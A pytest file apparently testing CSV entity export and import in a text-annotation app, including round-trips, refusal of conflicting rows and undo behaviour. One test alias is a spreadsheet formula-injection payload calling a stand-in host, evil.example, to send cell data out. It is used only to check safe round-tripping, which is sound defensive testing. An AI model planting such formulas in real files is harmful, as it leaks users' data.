"""File ▸ Export entities… / Import entities… through the real window: a registry travels to a
fresh project intact, and a file that does not fit is refused whole, naming the row."""

from __future__ import annotations

import pytest

from app.articles import make_document
from app.commands import AddAnnotations, AddDocuments
from app.offsets import new_annotation
from db.connection import open_db
from tests.db_helpers import logical_dump
from tests.gui_helpers import make_window
from widgets import file_dialogs

TEXT = "Abu Mohammad al-Jolani spoke in Idlib. Jolani said HTS would hold Idlib.\n"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'


@pytest.fixture
def chosen(monkeypatch):
    """The path the file dialogs answer with."""
    answer = {}
    monkeypatch.setattr(file_dialogs, "entity_list_path", lambda _w, save: answer["path"])
    return answer


def tag(w, quote, entity, tag_type=1):
    doc = w.view.document_id
    start = TEXT.index(quote)
    ann = new_annotation(TEXT, doc, start, start + len(quote), tag_type, entity=entity)
    w.undo_stack.push(AddAnnotations(w.store, [ann]))


def with_text(w):
    w.undo_stack.push(AddDocuments(w.store, [make_document(TEXT, title="Idlib")]))
    w.refresh_documents()
    w.open_document(w.store.document_summaries()[-1].id)
    return w


def registry(store):
    types = {t.id: t.name for t in store.tag_types()}
    return sorted((types[e.tag_type_id], e.name, tuple(sorted(e.aliases)))
                  for e in store.entities())  # fmt: skip


def dump(store):
    return logical_dump(store.db.conn)


def test_a_registry_travels_to_a_fresh_project_intact(qtbot, db, tmp_path, chosen):
    a = with_text(make_window(qtbot, db))
    tag(a, "Abu Mohammad al-Jolani", "Abu Mohammad al-Jolani")
    tag(a, "Jolani", "Abu Mohammad al-Jolani")
    tag(a, "HTS", "HTS")
    tag(a, "Idlib", "Idlib", 2)
    jolani = a.store.entity_id(1, "Abu Mohammad al-Jolani")
    for alias in (FORMULA, "'quoted", "-1", "al-Julani | the emir", "back\\slash"):
        a.store.add_alias(jolani, alias)
    chosen["path"] = str(tmp_path / "team.csv")
    a.actions["export_entities"].trigger()
    assert a.last_message == f"Exported 3 entities to {chosen['path']}"
    assert (tmp_path / "team.csv").read_bytes().startswith(b"\xef\xbb\xbftype,name,aliases\r\n")

    fresh = open_db(None)
    try:
        b = make_window(qtbot, fresh)
        b.actions["import_entities"].trigger()
        assert registry(b.store) == registry(a.store)
        assert FORMULA in b.store.entity(b.store.entity_id(1, "Abu Mohammad al-Jolani")).aliases
        assert b.undo_stack.undoText() == "Import entity list “team.csv”"
        assert "3 new entities, 6 aliases added" in b.last_message
        ids = sorted(e.id for e in b.store.entities())

        b.undo_stack.undo()
        assert b.store.entities() == []
        b.undo_stack.redo()
        assert sorted(e.id for e in b.store.entities()) == ids  # the same ids again
        b.actions["import_entities"].trigger()  # a second time: nothing new, nothing pushed
        assert "nothing new" in b.last_message and b.undo_stack.count() == 1

        panel = b.entities
        b.actions["entities_panel"].trigger()
        qtbot.waitUntil(lambda: panel.refresh_count > 0 and not panel.refresh_pending)
        assert panel.summary.text() == "3 entities"
        b.close()
    finally:
        fresh.close()


def test_a_file_that_does_not_fit_is_refused_whole_naming_the_row(qtbot, db, tmp_path, chosen):
    w = with_text(make_window(qtbot, db))
    tag(w, "Jolani", "Jolani")
    tag(w, "HTS", "HTS")
    path = tmp_path / "theirs.csv"
    path.write_text(
        "type,name,aliases\r\n"
        "Actor,Wagner,PMC Wagner\r\n"
        "Actor,Abu Mohammad al-Jolani,JOLANI | al-Julani\r\n",
        encoding="utf-8-sig",
    )
    chosen["path"] = str(path)
    before, depth = dump(w.store), w.undo_stack.count()
    w.actions["import_entities"].trigger()
    assert w.last_message.startswith(
        "theirs.csv, row 3: the alias “JOLANI” already names “Jolani” (Actor) in this project"
    )
    assert w.last_message.endswith("Nothing was imported; fix that row and import the file again.")
    assert dump(w.store) == before and w.undo_stack.count() == depth

    path.write_bytes(b"\xff\xfetype")
    w.actions["import_entities"].trigger()
    assert "UTF-16" in w.last_message and dump(w.store) == before


def test_a_row_of_the_same_name_extends_the_entity_in_one_undo_step(qtbot, db, tmp_path, chosen):
    w = with_text(make_window(qtbot, db))
    tag(w, "HTS", "HTS")
    before = dump(w.store)
    path = tmp_path / "hts.csv"
    path.write_text("Type,Name,Aliases\nactor,hts,Hayat Tahrir al-Sham | Tahrir al-Sham\n"
                    "Location,Idlib,Idlib city\n", encoding="utf-8")  # fmt: skip
    chosen["path"] = str(path)
    w.actions["import_entities"].trigger()
    assert registry(w.store) == [
        ("Actor", "HTS", ("Hayat Tahrir al-Sham", "Tahrir al-Sham")),
        ("Location", "Idlib", ("Idlib city",)),
    ]
    w.undo_stack.undo()
    assert dump(w.store) == before
